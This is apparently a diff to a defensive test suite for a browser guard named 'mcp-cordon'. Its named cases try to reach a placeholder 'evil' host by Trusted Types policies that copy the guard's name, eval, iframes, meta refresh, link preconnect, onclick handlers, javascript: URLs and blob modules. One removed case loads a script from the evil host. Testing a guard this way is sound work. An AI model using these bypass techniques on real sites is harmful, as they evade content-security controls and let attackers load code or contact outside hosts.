@@ -5,6 +5,17 @@ export default {
     const markup = `<iframe srcdoc='${script(`open("${evil}")`)}'></iframe>`;
     add("div").innerHTML = policy?.createHTML(markup) ?? markup;
   },
+  "a policy of the guard's name, and a frame by index": ({ add, own, evil }) => {
+    const policy = globalThis.trustedTypes?.createPolicy("mcp-cordon", { createHTML: (x) => x });
+    const markup = `<iframe src="${own}/slow"></iframe>`;
+    add("div").innerHTML = policy?.createHTML(markup) ?? markup;
+    window[0].open(evil);
+  },
+  "a policy of the guard's name, and a script": ({ evil }) => {
+    const policy = globalThis.trustedTypes?.createPolicy("mcp-cordon", { createScript: (x) => x });
+    const text = `open("${evil}")`;
+    (0, eval)(policy?.createScript(text) ?? text);
+  },
   "a default policy": ({ add, evil, script }) => {
     globalThis.trustedTypes?.createPolicy("default", { createHTML: (x) => x, createScript: (x) => x });
     add("div").innerHTML = `<iframe srcdoc='${script(`open("${evil}")`)}'></iframe>`;
@@ -148,8 +159,8 @@ export default {
       const l = document.querySelector("link");
       l.removeAttribute("rel");
       l.setAttributeNS("urn:x", "rel", "icon");
-      l.setAttribute("href", evil);
-      l.setAttribute("rel", "preconnect");
+      l.href = evil;
+      l.rel = "preconnect";
       document.head.append(l);
     },
   },
@@ -182,11 +193,6 @@ export default {
     m.attributes["http-equiv"].value = "refresh";
     m.attributes.content.value = `0; url=${evil}`;
     document.head.append(m);
-  },
-  "the page's own script": ({ evil }) => {
-    const s = document.querySelector("script").cloneNode();
-    s.src = evil + "/x.js";
-    document.body.append(s);
   },
   "an element of another document": ({ evil }) => {
     const f = new Document().createElementNS("http://www.w3.org/1999/xhtml", "iframe");
@@ -311,7 +317,11 @@ export default {
     document.body.append(s);
     void add;
   },
-  "a handler as an attribute": ({ add, evil }) => add("p").setAttribute("onclick", `open("${evil}")`) ?? document.querySelector("p").click(),
+  "a handler as an attribute": ({ add, evil }) => {
+    const p = add("p");
+    p.setAttribute("onclick", `window.open("${evil}")`);
+    p.click();
+  },
   "a link to a javascript: URL": ({ add, evil }) => add("a", { href: `javascript:open("${evil}")` }).click(),
   "a form to a javascript: URL": ({ add, evil }) => add("form", { action: `javascript:open("${evil}")` }).submit(),
   "a module of a blob:": ({ blob, evil }) => import(blob(`open("${evil}")`, "text/javascript")),
